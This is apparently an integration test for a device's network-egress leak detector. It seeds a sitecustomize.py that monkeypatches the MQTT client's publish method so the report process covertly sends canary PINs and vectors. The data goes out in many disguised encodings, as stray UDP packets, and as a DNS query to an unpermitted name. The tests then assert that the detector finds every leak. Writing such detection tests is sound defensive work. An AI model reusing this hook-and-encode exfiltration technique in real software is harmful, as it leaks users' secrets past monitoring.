"""Leaks on purpose: a door whose report was given secrets and sends them, each in another disguise. All are found.

report knows none of these secrets, so the leaking one is made here: the door runs from a folder in which Python finds a
`sitecustomize` before it starts a room, and in report's process that adds messages and packets of its own.
"""

import base64
import json
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest

from device.desk.network import destinations as the_way
from device.desk.network import permitted
from device.desk.network.capture import Capture
from device.desk.network.destinations import Destinations
from tests.integration.egress.test_life import DOOR_ID, wait_for
from tests.support.door import door_up
from tests.support.mosquitto import Mosquitto
from tests.support.ports import own_port
from tests.support.room_process import CHECKOUT
from tools.egress import canaries, search, views
from tools.egress.canaries import Vector
from tools.egress.namespace import STREET, Street
from tools.egress.search import Result, Sought

SIZE = 384
ELSEWHERE = permitted.Place(STREET, 9999, "udp")
NAME = "front-door.example"
SEED = """
import json, pathlib, socket, sys
if "device.report" in sys.orig_argv:
    import paho.mqtt.client as paho
    leaks = json.loads((pathlib.Path(__file__).parent / "leaks.json").read_text())
    honest = paho.Client.publish
    def leaking(self, topic, *args, **kwargs):
        while leaks["messages"]:
            honest(self, leaks["topic"], bytes.fromhex(leaks["messages"].pop(0)), qos=0)
        while leaks["packets"]:
            host, port, content = leaks["packets"].pop(0)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(bytes.fromhex(content), (host, port))
        return honest(self, topic, *args, **kwargs)
    paho.Client.publish = leaking
"""


def unit(seed: int) -> Vector:
    numbers = np.random.default_rng(seed).standard_normal(128).astype(np.float32)
    return np.asarray(numbers / np.linalg.norm(numbers), dtype=np.float32)


def pin(number: int) -> str:
    return str(5820317469 + 111_222_333 * number)


def like_a_report(**values: object) -> bytes:
    return json.dumps({"v": 2, "kind": "report", "door": DOOR_ID, **values}).encode()


def in_base64(before: int) -> bytes:
    return like_a_report(x=base64.b64encode(b"abc"[:before] + pin(before).encode() + b"z").decode().rstrip("="))


def question(name: str) -> bytes:
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"


FACES = {
    name: unit(seed) for seed, name in enumerate(("in the padding", "compressed", "as JSON", "as signs", "turned"))
}
QUANTIZED = np.rint(FACES["in the padding"] * 300).clip(-127, 127).astype(np.int8).tobytes()
SIGNS = bytes(1 if number > 0 else 0 for number in FACES["as signs"])
LEAKS: dict[str, list[bytes]] = {
    "base64 at 0": [in_base64(0)],
    "base64 at 1": [in_base64(1)],
    "base64 at 2": [in_base64(2)],
    "in the padding": [like_a_report(x=1) + b" " * 9 + QUANTIZED],
    "the slot": [like_a_report(n=7391)],
    "compressed": [b"\x00" + zlib.compress(FACES["compressed"].tobytes().hex().encode(), 9)[:600]],
    "UTF-16": [pin(3).encode("utf-16-be")],
    "split": [like_a_report(x=pin(4)[:5]), like_a_report(x=pin(4)[5:])],
    "as JSON": [like_a_report(x=[round(float(number) * 50 + 7, 1) for number in FACES["as JSON"]])],
    "as signs": [SIGNS],
    "reversed": [like_a_report(x=pin(5)[::-1])],
    "hexadecimal": [like_a_report(x=":".join(f"{byte:02X}" for byte in pin(6).encode()))],
    "escaped": [b'{"x":"' + "".join(f"\\u{ord(digit):04x}" for digit in pin(7)).encode() + b'"}'],
    "compressed in base64": [like_a_report(x=base64.b64encode(zlib.compress(pin(8).encode() * 2)).decode())],
    "in a packet elsewhere": [],
}
PINS = {"base64 at 0": 0, "base64 at 1": 1, "base64 at 2": 2, "UTF-16": 3, "split": 4, "reversed": 5, "hexadecimal": 6}
PINS |= {"escaped": 7, "compressed in base64": 8, "in a packet elsewhere": 9, "kept": 10}
SOUGHT = Sought.of(
    [*(canaries.digits(name, pin(number)) for name, number in PINS.items()), canaries.digits("the slot", "7391")],
    FACES,
)


@dataclass
class Leaked:
    """What the search made of it."""

    result: Result
    way: Destinations


def seeded(folder: Path) -> Path:
    """A folder to run a door from, whose report leaks."""
    for name in ("device", "tools", "models", "pyproject.toml"):
        (folder / name).symlink_to(CHECKOUT / name)
    messages = [payload.ljust(SIZE).hex() for leak in LEAKS.values() for payload in leak]
    packets = [(STREET, ELSEWHERE.port, pin(9).encode().hex()), (STREET, 53, question(NAME).hex())]
    told = {"topic": f"doorward/{DOOR_ID}/report", "messages": messages, "packets": packets}
    (folder / "leaks.json").write_text(json.dumps(told))
    (folder / "sitecustomize.py").write_text(SEED)
    return folder


@pytest.fixture(scope="module")
def leaked(outside: Street, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Leaked]:
    folder = tmp_path_factory.mktemp("leaks")
    broker = Mosquitto(folder / "broker", own_port())
    code = tmp_path_factory.mktemp("code")
    with outside.door.entered():
        capture = Capture()
        broker.start()
    try:
        with capture, door_up(broker=broker.url, door_id=DOOR_ID, code=seeded(code), started=False) as home:
            with outside.door.entered():
                home.up()
            wait_for(capture, "/report", sum(map(len, LEAKS.values())))
            home.down()
            capture.settle()
        capture.check()
        allowed = permitted.permitted(broker.url, permitted.Board())
        yield Leaked(
            search.search(views.views(capture.packets), SOUGHT), the_way.destinations(capture.packets, allowed)
        )
    finally:
        broker.stop()


@pytest.mark.parametrize("name", LEAKS)
def test_leak_is_found(leaked: Leaked, name: str) -> None:
    assert name in leaked.result.found


@pytest.mark.parametrize("name", ["kept", "turned"])
def test_what_was_kept_is_not_found(leaked: Leaked, name: str) -> None:
    assert name not in leaked.result.found


def test_packet_to_another_destination_is_found(leaked: Leaked) -> None:
    assert ELSEWHERE in {each.place for each in leaked.way.forbidden}
    assert not leaked.way.well


def test_question_for_a_name_nobody_permitted_is_found(leaked: Leaked) -> None:
    assert leaked.way.names_forbidden == (NAME,)
    assert permitted.Place(STREET, 53, "udp") in {each.place for each in leaked.way.forbidden}
